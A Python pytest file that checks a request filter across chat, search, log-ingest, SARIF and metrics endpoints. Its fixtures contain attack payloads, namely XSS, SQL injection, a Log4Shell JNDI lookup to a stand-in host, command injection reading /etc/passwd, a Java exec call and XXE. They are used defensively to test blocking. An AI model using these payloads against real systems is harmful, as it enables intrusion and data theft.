"""Prompts, searches and reports pass by path and members together; neither does it alone."""

from __future__ import annotations

import json

import pytest
from web_requests import stops

from signoff.actions.action import Json

ABOUT = (
    "Why does <img src=x onerror=alert(1)> run, and what prints {{7*7}}; cat /etc/passwd | head?"
)
TALK = {"model": "m", "messages": [{"role": "user", "content": ABOUT}]}
SEARCH = {"query": {"query_string": {"query": 'url:*..\\/..\\/* OR m:"etc/passwd" OR <script>'}}}
RUN = "java.lang.Runtime.getRuntime().exec('id')"
GELF = {"version": "1.1", "host": "f", "short_message": "' or 1=1--", "_raw": "GET /?q=<script>"}
SARIF = {
    "runs": [{"results": [{"message": {"text": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///a'>]>"}}]}]
}


@pytest.mark.parametrize(
    ("path", "body", "is_found"),
    [
        ("/v1/chat/completions", TALK, False),
        ("/v1/embeddings", {"model": "m", "input": [ABOUT]}, False),
        ("/v1/completions", {"prefix": "<?php echo $_GET['a'];", "max_tokens": 9}, False),
        ("/x", TALK, True),
        ("/v1/chat/completions", {**TALK, "title": "<script>alert(1)</script>"}, True),
        ("/v1/chat/completions", {"text": ABOUT}, True),
        ("/v1/chat/completions", {**TALK, "user": "${jndi:ldap://e.example/a}"}, True),
        ("/logs-*/_search", {**SEARCH, "size": 5}, False),
        ("/internal/search/ese", {"params": {"body": SEARCH}}, False),
        ("/search", SEARCH, True),
        ("/logs/_search", {**SEARCH, "name": "x; cat /etc/passwd"}, True),
        ("/logs/_search", {"query": {"script": {"source": RUN}}}, True),
        ("/logs/_search", {"aggs": {"a": {"scripted_metric": {"init_script": RUN}}}}, True),
        ("/gelf", GELF, False),
        ("/gelf", {**GELF, "name": "x' or 'a'='a"}, True),
        ("/gelf", {**GELF, "_raw": "${jndi:ldap://e.example/a}"}, True),
        ("/api/code-scanning/sarifs", SARIF, False),
        ("/api/code-scanning/sarifs", {**SARIF, "url": "file:///etc/passwd"}, True),
        ("/api/upload", SARIF, True),
    ],
)
def test_path_and_members_count_together(path: str, body: Json, *, is_found: bool) -> None:
    """The path is the protocol's and each member too; what is run in a search is still read."""
    headers = {"content-type": "application/json"}
    assert is_found is stops(path, headers=headers, body=json.dumps(body))


@pytest.mark.parametrize(
    ("path", "query", "is_found"),
    [
        ("/loki/api/v1/query", {"query": '{app="w"} |= "<script>" |= "/etc/passwd"'}, False),
        ("/api/v1/query_range", {"query": 'rate(h{p!="/etc/passwd"}[5m])', "step": "15"}, False),
        ("/api/v1/query", {"query": "<script>alert(1)</script>"}, True),
        ("/api/v1/query_range", {"query": "a", "step": "15; cat /etc/passwd"}, True),
        ("/api/v1/query_range", {"query": "<script>alert(1)</script>", "callback": "f"}, True),
    ],
)
def test_ranges_of_measurements(path: str, query: dict[str, str], *, is_found: bool) -> None:
    """A search in logs and measurements names what it looks for."""
    assert is_found is stops(path, method="GET", query=query)
